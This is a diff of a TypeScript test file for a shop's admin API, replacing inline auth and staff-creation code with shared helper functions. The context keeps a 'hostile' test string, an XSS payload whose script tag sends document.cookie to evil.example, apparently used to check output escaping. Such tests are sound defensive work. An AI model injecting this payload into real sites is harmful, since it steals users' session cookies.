@@ -7,8 +7,8 @@
 import { createTestApi, type TestApi } from '@clubshop/commerce-api/testing';
 import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createStaff } from '../src/staff/staff-service.ts';
 import { jsonInit } from './contract.ts';
+import { adminFetch, createCliOwner } from './support/admin-client.ts';
 
 let api: TestApi;
 let owner: string;
@@ -17,14 +17,9 @@ const hostile =
   '#fff" onload="alert(1)"/><script>fetch("https://evil.example/?"+document.cookie)</script><x a="';
 
 async function call(method: string, path: string, body?: unknown, headers: Record<string, string> = {}) {
-  const auth = { Authorization: `Bearer ${owner}`, ...headers };
-  const response = await api.fetch(
-    `/admin/api${path}`,
-    body === undefined ? { method, headers: auth } : jsonInit(method, body, auth),
-  );
-  const text = await response.text();
+  const reply = await adminFetch(api, owner, method, path, body, headers);
   // biome-ignore lint/suspicious/noExplicitAny: answers are read loosely in assertions
-  return { status: response.status, etag: response.headers.get('ETag'), body: JSON.parse(text) as any };
+  return { status: reply.status, etag: reply.etag, body: JSON.parse(reply.text) as any };
 }
 
 /** Writes settings of every site of the harbour club straight into the database (as an old document may hold them). */
@@ -47,12 +42,7 @@ function expectPictureHeaders(response: Response) {
 
 beforeAll(async () => {
   api = await createTestApi();
-  await createStaff(api.deps.db, { name: 'cli' }, new Date(), {
-    email: 'owner@pictures.example',
-    password,
-    role: 'owner',
-    sites: 'all',
-  });
+  await createCliOwner(api, 'owner@pictures.example', password);
   const token = await api.fetch(
     '/admin/api/auth/token',
     jsonInit('POST', { grant_type: 'password', username: 'owner@pictures.example', password }),
